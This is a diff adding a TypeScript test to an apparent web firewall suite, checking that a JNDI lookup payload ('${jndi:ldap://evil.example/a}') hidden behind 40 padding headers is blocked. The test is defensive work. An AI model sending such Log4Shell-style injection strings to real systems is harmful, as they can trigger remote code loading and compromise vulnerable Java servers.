@@ -89,6 +89,16 @@ test("attacks are blocked wherever they are, with the class in the reply and not
   }
 });
 
+test("headers read for lookups and Java names: padding many of them in front of a payload is a limits finding, never a pass", async () => {
+  const padding = Array.from({ length: 40 }, (_, i) => [`x-pad-${i}`, "${user}"] as [string, string]);
+  const r = await send("GET", "/items", [...padding, ["x-api-version", "${jndi:ldap://evil.example/a}"]]);
+  assert.equal(r.status(), 403);
+  assert.ok(["limits", "jndi"].includes(r.json().class), r.downstreamBody.toString());
+  assert.equal(r.upstreamHeaders, undefined);
+  const few = await send("GET", "/items", Array.from({ length: 10 }, (_, i) => [`x-pad-${i}`, "${user}"] as [string, string]));
+  assert.equal(few.status(), 200);
+});
+
 test("session fixation: a framework's session id as a query or form parameter or JSON key is blocked unless a same-site page sent it", async () => {
   const form = [["content-type", "application/x-www-form-urlencoded"]] as Array<[string, string]>;
   const blocked = [
